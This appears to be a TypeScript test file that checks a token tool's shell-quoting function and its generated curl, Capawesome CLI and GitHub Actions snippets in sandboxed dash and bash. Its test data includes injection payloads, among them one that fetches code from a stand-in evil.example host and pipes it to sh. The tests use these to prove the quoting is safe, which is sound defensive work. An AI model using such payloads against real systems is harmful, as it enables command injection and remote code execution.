/**
 * Snippets are pasted into shells and workflow files, so they are checked by the
 * programs that will read them: sh (dash) and bash parse and run them with every
 * external command replaced by a recorder, and the workflow step goes through a
 * YAML parser.
 */
import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { DEFAULT_SERVICE_URL } from '../../src/shared/service-url.js';
import {
  CAPAWESOME_CLOUD_API_URL,
  SNIPPET_KINDS,
  SNIPPET_LABELS,
  quoteForShell,
  snippetText,
} from '../../src/shared/snippets.js';
import { generateSecret } from '../../src/server/auth/secrets.js';

const SHELLS = ['/bin/sh', '/bin/bash'];
/** `-c script` for `shell`; bash without rc files, so the machine's ~/.bashrc stays out of it. */
function shellArgs(shell: string, ...args: string[]): string[] {
  return shell.endsWith('bash') ? ['--norc', '--noprofile', ...args] : args;
}
const TOKEN = generateSecret('api_token');
const scratch = mkdtempSync(join(tmpdir(), 'token-desk-snippets-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/**
 * Runs `script` in `shell` inside a fresh directory. `curl` and `npx` are recorders
 * that print each argument NUL-terminated, one call per line group; PATH holds
 * nothing else, so anything the script would run beyond them fails loudly.
 */
function runInHarness(shell: string, script: string) {
  const dir = mkdtempSync(join(scratch, 'run-'));
  const bin = join(dir, 'bin');
  mkdirSync(bin);
  for (const command of ['curl', 'npx']) {
    const path = join(bin, command);
    writeFileSync(
      path,
      `#!/bin/sh\nprintf '%s\\0' ${command} "$@" >> "$RECORD"\nprintf '\\n' >> "$RECORD"\n`,
    );
    chmodSync(path, 0o755);
  }
  const record = join(dir, 'record');
  writeFileSync(record, '');
  const result = spawnSync(shell, shellArgs(shell, '-c', script), {
    cwd: dir,
    encoding: 'utf8',
    // printf is a builtin in dash and bash; the recorders need /bin/sh itself.
    env: { PATH: bin, HOME: dir, RECORD: record, CAPAWESOME_TOKEN: TOKEN },
  });
  const calls = readFileSync(record, 'utf8')
    .split('\0\n')
    .filter((call) => call !== '')
    .map((call) => call.split('\0'));
  const configPath = join(dir, 'capawesome.config.json');
  const config = existsSync(configPath)
    ? (JSON.parse(readFileSync(configPath, 'utf8')) as unknown)
    : null;
  return { status: result.status, stderr: result.stderr, calls, config };
}

function syntaxCheck(shell: string, script: string) {
  return spawnSync(shell, shellArgs(shell, '-n', '-c', script), {
    encoding: 'utf8',
    env: { PATH: '/nonexistent', HOME: scratch },
  });
}

describe('quoteForShell', () => {
  const hostile = [
    "https://evil.example/$(curl$IFS'evil.example/x'|sh)",
    'https://evil.example/`touch pwned`',
    "it's",
    "''",
    "'\\''",
    "a'; touch pwned; echo '",
    'a\nb',
    'a\n\ntouch pwned',
    ';|&<>(){}*?[]~!#',
    '$HOME ${PATH} $0 $1 $@ $*',
    '\\',
    'trailing backslash\\',
    '%0a%27%24(id)',
    '',
    ' leading and trailing ',
    'ünïcödé ✓',
  ];

  it.each(SHELLS.flatMap((shell) => hostile.map((value) => [shell, value])))(
    '%s receives %j back as exactly one literal argument',
    (shell, value) => {
      const script = `printf '%s\\0' ${quoteForShell(value)}`;
      const result = spawnSync(shell, shellArgs(shell, '-c', script), {
        cwd: scratch,
        encoding: 'utf8',
        env: { PATH: '/nonexistent', HOME: scratch },
      });
      expect(result.stderr).toBe('');
      expect(result.stdout).toBe(`${value}\0`);
      expect(existsSync(join(scratch, 'pwned'))).toBe(false);
    },
  );
});

describe('the curl snippet', () => {
  it.each(
    SHELLS.flatMap((shell) =>
      [
        "https://evil.example/$(curl$IFS'evil.example/x'|sh)",
        'https://evil.example/`curl evil.example/x`',
        "https://evil.example/x'; curl evil.example/y; echo '",
        'https://evil.example/a;curl b|curl c&curl d',
        'https://evil.example/a\ncurl evil.example/x',
        'https://evil.example/a b "c" $CAPAWESOME_TOKEN',
      ].map((url) => [shell, url]),
    ),
  )('in %s, passes even an unchecked URL %j to curl as one argument', (shell, url) => {
    const snippet = snippetText('curl', url);
    const { status, stderr, calls } = runInHarness(shell, snippet);
    expect(stderr).toBe('');
    expect(status).toBe(0);
    expect(calls).toEqual([['curl', `${url}/v1/users/me`, '-H', `Authorization: Bearer ${TOKEN}`]]);
  });
});

const SERVICE_URLS = [
  DEFAULT_SERVICE_URL,
  'http://[::1]:4780',
  'https://tokens.example.test/api/v1.2_x~y-z',
  'https://example.test/t%C3%B6kens',
  CAPAWESOME_CLOUD_API_URL,
];

describe.each(SERVICE_URLS)('snippets for %s', (serviceUrl) => {
  const isCloud = serviceUrl === CAPAWESOME_CLOUD_API_URL;

  it.each(SHELLS)('the CLI and curl snippets parse in %s', (shell) => {
    for (const kind of ['cli', 'curl'] as const) {
      const result = syntaxCheck(shell, snippetText(kind, serviceUrl));
      expect(result.stderr, kind).toBe('');
      expect(result.status, kind).toBe(0);
    }
  });

  it.each(SHELLS)(
    'the CLI snippet signs in with the token from CAPAWESOME_TOKEN, pointed at the service (%s)',
    (shell) => {
      const { status, stderr, calls, config } = runInHarness(shell, snippetText('cli', serviceUrl));
      expect(stderr).toBe('');
      expect(status).toBe(0);
      expect(calls).toEqual([['npx', '@capawesome/cli', 'login', '--token', TOKEN]]);
      // The CLI talks to Capawesome Cloud unless capawesome.config.json says otherwise.
      expect(config).toEqual(isCloud ? null : { API_BASE_URL: serviceUrl });
    },
  );

  it('the curl snippet asks the configured service who the token belongs to', () => {
    const { calls } = runInHarness('/bin/sh', snippetText('curl', serviceUrl));
    expect(calls).toEqual([
      ['curl', `${serviceUrl}/v1/users/me`, '-H', `Authorization: Bearer ${TOKEN}`],
    ]);
  });

  it('the GitHub Actions snippet is a workflow step that reads the repository secret', () => {
    const text = snippetText('github', serviceUrl);
    const parsed = parseYaml(text) as unknown;
    expect(Array.isArray(parsed)).toBe(true);
    const [step, ...rest] = parsed as Array<Record<string, unknown>>;
    expect(rest).toEqual([]);
    expect(Object.keys(step!).sort()).toEqual(['env', 'name', 'run']);
    expect(step!.env).toEqual({ CAPAWESOME_TOKEN: '${{ secrets.CAPAWESOME_TOKEN }}' });
    expect(typeof step!.name).toBe('string');
    // The secret itself never appears in a workflow file.
    expect(text).not.toContain('ca_');

    const run = step!.run as string;
    for (const shell of SHELLS) {
      expect(syntaxCheck(shell, run).stderr).toBe('');
      const { status, stderr, calls, config } = runInHarness(shell, run);
      expect(stderr).toBe('');
      expect(status).toBe(0);
      expect(calls).toEqual([['npx', '@capawesome/cli', 'login', '--token', TOKEN]]);
      expect(config).toEqual(isCloud ? null : { API_BASE_URL: serviceUrl });
    }
  });
});

describe('snippet wording', () => {
  it('has a label for every kind and no gh command posing as a workflow step', () => {
    for (const kind of SNIPPET_KINDS) {
      expect(SNIPPET_LABELS[kind]).toMatch(/\S/);
      expect(snippetText(kind, DEFAULT_SERVICE_URL)).not.toMatch(/^gh /m);
    }
  });

  it('says so when a GitHub-hosted runner cannot reach a service on this computer', () => {
    expect(snippetText('github', DEFAULT_SERVICE_URL)).toContain(
      `# A GitHub-hosted runner cannot reach ${DEFAULT_SERVICE_URL} on this computer`,
    );
    expect(snippetText('github', 'https://tokens.example.test')).not.toContain('cannot reach');
  });

  it('matches the seed page for Capawesome Cloud', () => {
    expect(snippetText('cli', CAPAWESOME_CLOUD_API_URL)).toBe(
      'npx @capawesome/cli login --token "$CAPAWESOME_TOKEN"',
    );
    expect(snippetText('curl', CAPAWESOME_CLOUD_API_URL)).toBe(
      `curl 'https://api.cloud.capawesome.io/v1/users/me' -H "Authorization: Bearer $CAPAWESOME_TOKEN"`,
    );
  });
});
